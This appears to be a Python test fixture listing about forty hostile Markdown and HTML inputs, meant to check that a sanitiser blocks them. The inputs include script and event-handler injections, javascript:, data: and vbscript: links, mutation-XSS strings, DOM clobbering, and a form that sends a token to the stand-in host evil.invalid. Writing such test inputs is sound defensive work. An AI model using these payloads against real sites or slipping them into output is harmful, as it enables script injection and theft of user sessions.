"""Texts of writers who mean harm to those who read them: for Markdown, for HTML, and for who parses it twice.

Each tries to call `pwned(…)`, to load from `evil.invalid`, to style the page or to take something over by name. The
mutation ones are of the kinds published against sanitisers that parse, serialise and parse again.
"""

from __future__ import annotations

HOSTILE = (
    "<script>pwned('script')</script>",
    "</pre></code></details></article></main><script>pwned('closed')</script>",
    "<img src=x onerror=pwned('img')>",
    "<svg onload=pwned('svg')><animate onbegin=pwned('animate') attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:pwned(1)'><text y=20>click</text></a></svg>",
    "<iframe srcdoc=\"<script>parent.pwned('srcdoc')</script>\"></iframe>",
    "<iframe src=javascript:pwned('iframe')></iframe>",
    "<object data='data:text/html,<script>pwned(1)</script>'></object><embed src='data:text/html,x'>",
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.invalid/x.css>",
    "<p style='position:fixed;inset:0;background:url(https://evil.invalid/style)'>over everything</p>",
    "<base href=https://evil.invalid/><meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<form action=https://evil.invalid/><input name=token autofocus onfocus=pwned('focus')><button>Sign in</button></form>",
    "<a id=session name=location href=x>clobber</a><form id=document><input name=cookie></form>",
    "<div id=app></div><div id=toasts class=toast></div><dialog open>Your session expired</dialog>",
    "<details open ontoggle=pwned('toggle')><summary>x</summary></details>",
    "<video><source onerror=pwned('source')></video><audio src=x onerror=pwned('audio')>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned('mxss1')&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned('mxss2')>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=pwned('mxss3')>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned('mxss4')>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=pwned('mxss5')></style></annotation-xml></math>",
    "<template><img src=x onerror=pwned('template')></template><xmp><img src=x onerror=pwned('xmp')></xmp>",
    "<!--<img src=\"--><img src=x onerror=pwned('comment')>\">",
    "<![CDATA[<img src=x onerror=pwned('cdata')>]]>",
    "<x\u0000y onclick=pwned(1)>\u0000<scr\u0000ipt>pwned('nul')</scr\u0000ipt>",
    "[click](javascript:pwned('link')) [click](JaVaScRiPt:pwned(1)) [click](java\tscript:pwned(1))",
    "[click](&#106;avascript:pwned('entity')) [click](&#x6A&#x61;vascript:pwned(1)) [click](\\javascript:pwned(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==) [click](vbscript:pwned(1))",
    "[click](blob:https://evil.invalid/x) [click](file:///etc/passwd) [click](//evil.invalid/)",
    "<javascript:pwned('autolink')> <data:text/html,x>",
    "[ref]\n\n[ref]: javascript:pwned('reference)",
    "![x](https://evil.invalid/tracker.png) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoMSk+)",
    '![x" onerror="pwned(\'alt\')](x) [x](https://example.org/"onclick="pwned(1)) [x](https://example.org \'a"onclick="pwned(1)\')',
    "[![x](https://evil.invalid/inner.png)](javascript:pwned('nested'))",
    "```html\" onload=\"pwned(1)\n</code></pre><script>pwned('fence')</script>\n```",
    "```js\n</code></pre><img src=x onerror=pwned('code')>\n```",
    "`</code><img src=x onerror=pwned('inline')>`",
    "    </code></pre><script>pwned('indented')</script>",
    "| a | b |\n|--:|---|\n| <script>pwned('cell')</script> | [x](javascript:pwned(1)) |",
    "- [x] <input type=checkbox onclick=pwned(1)>\n- [ ] <button onclick=pwned(1)>x</button>",
    "# <img src=x onerror=pwned('heading')>\n\n> <script>pwned('quote')</script>",
    "\u202e<script>pwned('bidi')</script>\u2066 ${pwned(1)} {{pwned(1)}} <%= pwned(1) %>",
    "<a href='https://example.org' target=_self onclick=pwned(1) download ping=https://evil.invalid/>honest</a>",
)
